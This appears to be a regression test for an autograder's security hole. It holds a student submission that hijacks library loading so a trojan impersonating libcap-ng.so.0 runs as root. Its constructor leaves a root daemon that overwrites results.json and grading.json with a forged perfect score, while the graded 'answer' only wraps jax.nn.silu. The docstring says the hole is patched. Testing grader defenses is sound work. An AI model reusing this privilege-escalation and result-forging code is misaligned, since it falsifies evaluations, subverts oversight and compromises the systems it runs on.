"""Root runs the student's code through the loader's environment (issue 54). The runner (root)
started the executor through `setpriv` with LD_AUDIT (the grader's audit module) and
JAX_INTEROP_LOADED_LIBRARIES (the executor's folder of the notebook's library copies) in its
environment, so the audit module answered the library searches of setpriv itself, still root.
The notebook builds and loads a library under a system library's file name, libcap-ng.so.0
(setpriv's one dependency besides libc; it needs the real file by its full path, so setpriv
still finds its capng_* functions): the runner copies it into the executor's folder as
b-<fnv1a64("libcap-ng.so.0")>. The answer's copy kernel aborts the executor once; at its
restart setpriv mapped that copy and ran its constructor as root, before dropping privileges.
The constructor, only when its euid is 0, creates the marker and leaves a root daemon that
waits for the runner's results.json (the runner's folder from its command line) and rewrites
it and grading.json to 10/10. The answer is cheat_copy_kernels_around_jnp's (copy kernels
around jax.nn.silu: 0). Now setpriv and prlimit get no loader variables (`env -i` sets them
after the privileges are dropped), so root never maps the copy: 0, no marker.

assignment: silu_ffi
score: 0
markers:
  - /tmp/pwned-adv-loader-root
"""
import ctypes
import os
import subprocess

# The answer (worth 0): copy kernels around jnp; in the executor (its folder of copies is in its
# environment) the kernel aborts once, so the executor is started again after the copies exist.
Path("silu.cc").write_text(r"""
#include <cstdint>
#include <cstdlib>
#include <string>
#include <fcntl.h>
#include "xla/ffi/api/ffi.h"
namespace ffi = xla::ffi;

static ffi::Error CopyImpl(ffi::Buffer<ffi::F32> x, ffi::ResultBuffer<ffi::F32> y) {
  const char* home = getenv("HOME");
  if (getenv("JAX_INTEROP_LOADED_LIBRARIES") && home &&
      open((std::string(home) + "/.aborted-once").c_str(), O_WRONLY | O_CREAT | O_EXCL, 0600) >= 0)
    abort();
  for (int64_t i = 0; i < x.element_count(); ++i) y->typed_data()[i] = x.typed_data()[i];
  return ffi::Error::Success();
}
XLA_FFI_DEFINE_HANDLER_SYMBOL(CopyA, CopyImpl,
    ffi::Ffi::Bind().Arg<ffi::Buffer<ffi::F32>>().Ret<ffi::Buffer<ffi::F32>>());
XLA_FFI_DEFINE_HANDLER_SYMBOL(CopyB, CopyImpl,
    ffi::Ffi::Bind().Arg<ffi::Buffer<ffi::F32>>().Ret<ffi::Buffer<ffi::F32>>());
""")
load_and_register("silu.cc", {"copy_forward": "CopyA", "copy_backward": "CopyB"})


def _copy(target, x):
    return jax.ffi.ffi_call(target, jax.ShapeDtypeStruct(x.shape, x.dtype), vmap_method="broadcast_all")(x)


@jax.custom_vjp
def silu_ffi(x):
    return _copy("copy_forward", jax.nn.silu(x))


def _bwd(x, g):
    s = jax.nn.sigmoid(x)
    return (_copy("copy_backward", g * s * (1 + x * (1 - s))),)


silu_ffi.defvjp(lambda x: (silu_ffi(x), x), _bwd)

# The trojan: a constructor that acts only as root (in the witness and the executor it does nothing).
Path("trojan.c").write_text(r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static const char FORGED[] = "{\"score\": 10.0, \"output\": \"\", \"tests\": [{\"name\": \"silu_ffi\", "
    "\"score\": 10.0, \"max_score\": 10.0, \"status\": \"passed\", \"visibility\": \"visible\", "
    "\"output\": \"All tests passed.\"}]}";

static void put(const char* folder, const char* name, const char* text) {   /* whole, by a rename */
  char tmp[4300], path[4300];
  snprintf(tmp, sizeof tmp, "%s/.%s", folder, name);
  snprintf(path, sizeof path, "%s/%s", folder, name);
  int fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) return;
  if (write(fd, text, strlen(text)) >= 0 && close(fd) == 0) rename(tmp, path);
}

__attribute__((constructor)) static void as_root(void) {
  if (geteuid() != 0) return;
  int fd = open("/tmp/pwned-adv-loader-root", O_WRONLY | O_CREAT | O_EXCL, 0644);
  if (fd < 0) return;                     /* one daemon, however many restarts */
  close(fd);
  /* setpriv's parent is `python -I -m autograder.runner ROOT ...`: ROOT from its command line */
  char root[4096] = "/autograder", args[8192], path[64];
  snprintf(path, sizeof path, "/proc/%d/cmdline", (int)getppid());
  int cmd = open(path, O_RDONLY);
  ssize_t n = cmd < 0 ? -1 : read(cmd, args, sizeof args - 1);
  if (n > 0) {
    args[n] = 0;
    for (char* a = args; a < args + n; a += strlen(a) + 1)
      if (!strcmp(a, "autograder.runner") && a + strlen(a) + 1 < args + n && a[strlen(a) + 1] == '/')
        snprintf(root, sizeof root, "%s", a + strlen(a) + 1);
  }
  pid_t child = fork();
  if (child != 0) {                       /* setpriv goes on as if nothing happened */
    if (child > 0) waitpid(child, NULL, 0);
    return;
  }
  setsid();
  if (fork() != 0) _exit(0);
  for (int i = 0; i < 1024; ++i) close(i);   /* hold none of the runner's pipes */
  char results[4200], done[4300];
  snprintf(results, sizeof results, "%s/results", root);
  snprintf(done, sizeof done, "%s/results.pkl", results);   /* written after results.json and grading.json */
  for (int i = 0; i < 450000 && access(done, F_OK) != 0; ++i) usleep(2000);
  put(results, "results.json", FORGED);
  put(results, "grading.json", "{\"seed\": 0, \"cases\": []}");
  _exit(0);
}
""")
# DT_NEEDED on the real libcap-ng by its full path (a stub whose soname is that path), so the
# loader still finds setpriv's capng_* there; the audit module's lookup is by the last component.
real = os.path.realpath("/usr/lib/x86_64-linux-gnu/libcap-ng.so.0")
Path("empty.c").write_text("")
subprocess.run(["clang", "-shared", "-o", "libstub.so", f"-Wl,-soname,{real}", "empty.c"], check=True)
subprocess.run(["clang", "-O2", "-shared", "-fPIC", "-o", "libcap-ng.so.0", "trojan.c",
                "-Wl,--no-as-needed", "./libstub.so"], check=True)
ctypes.CDLL(str(Path("libcap-ng.so.0").resolve()))   # captured as loaded: its name ends in libcap-ng.so.0
